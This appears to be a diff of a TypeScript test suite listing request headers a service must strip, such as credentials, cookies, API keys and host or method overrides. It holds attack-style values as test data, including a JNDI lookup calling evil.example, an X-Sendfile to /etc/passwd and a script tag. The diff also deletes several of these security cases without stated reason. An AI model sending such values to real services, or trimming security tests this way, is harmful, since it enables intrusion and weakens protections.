@@ -1,4 +1,4 @@
-import { orderText, type RawPost } from "../../../testkit/raw-caller.ts";
+import type { RawPost } from "../../../testkit/raw-caller.ts";
 import { hmacSite, oauthSite } from "../../../testkit/stage.ts";
 
 /** A header case: the order with these lines, the status, and those of the caller's lines that the service gets. */
@@ -17,17 +17,11 @@ const usualLines = 4;
 /** Lines of the caller that never reach the service (RFC 9110 7.6.1; product section 2). */
 const dropped: readonly (readonly [name: string, ...lines: string[]])[] = [
   // Credentials of the caller: dropped in every casing and number; the service gets ours only.
-  ["a bearer token", "Authorization: Bearer mine"],
   ["a bearer token, shouted", "AUTHORIZATION: BEARER mine"],
   ["two bearer tokens", "Authorization: Bearer mine", "authorization: Bearer mine-too"],
-  ["an empty Authorization", "Authorization:"],
-  ["an Authorization of 8 KiB", `Authorization: Bearer ${"m".repeat(8_192)}`],
-  ["our own token's text", "Authorization: Bearer token_1"],
-  ["an Authorization with odd blanks", "authorization:\t Bearer  mine \t"],
   ["names that servers take for Authorization", "Authorization-: a", "X-Authorization: b", "HTTP_AUTHORIZATION: c"],
   ["credentials for proxies", "Proxy-Authorization: Basic bTptCg==", "PROXY-authorization: x"],
   ["cookies", "Cookie: a=b", "COOKIE: c=d", "Cookie2: $Version=1"],
-  ["an answer's cookie", "Set-Cookie: a=b"],
   ["keys of many makers", "X-Api-Key: m", "Api-Key: m", "X-Auth-Token: m", "X-Amz-Security-Token: m"],
   ["signatures", "Signature: m", "Signature-Input: m", "X-Signature: m", "Digest: m", "Content-MD5: m"],
   ["certificates of the caller", "X-Client-Cert: m", "Client-Cert: m", "X-Forwarded-Client-Cert: m"],
@@ -37,7 +31,6 @@ const dropped: readonly (readonly [name: string, ...lines: string[]])[] = [
   ["other hosts", "X-Forwarded-Host: evil.example", "X-Host: evil.example", "X-Original-Host: evil.example"],
   ["other targets", "X-Original-URL: /get_order", "X-Rewrite-URL: /get_order", "X-Forwarded-Path: /get_order"],
   ["other methods", "X-HTTP-Method-Override: DELETE", "X-HTTP-Method: PUT", "X-Method-Override: GET"],
-  ["internal headers of servers", "X-Accel-Redirect: /", "X-Sendfile: /etc/passwd", "X-Middleware-Subrequest: 1"],
   ["a Via of the caller", "Via: 1.1 evil.example, 1.1 countersign"],
 
   // Hop-by-hop headers, and headers without a meaning here.
@@ -48,9 +41,6 @@ const dropped: readonly (readonly [name: string, ...lines: string[]])[] = [
   ["X-Tenant with an underscore", "X_Tenant: a"],
   ["X-Tenant with a longer name", "X-Tenant-Id: a", "X-X-Tenant: a"],
   ["names of JavaScript objects", "__proto__: a", "constructor: b", "toString: c", "hasOwnProperty: d"],
-  ["a name of one character", "X: 1", "~: 2", "0: 3"],
-  ["values like markup and formats", "X-Line: <script>", "X-Line: %s%n", "X-Line: $" + "{jndi:ldap://evil.example}"],
-  ["the body's own text as a value", `X-Line: ${orderText}`],
 ];
 
 /** Header lines that Connection names: none passes. */
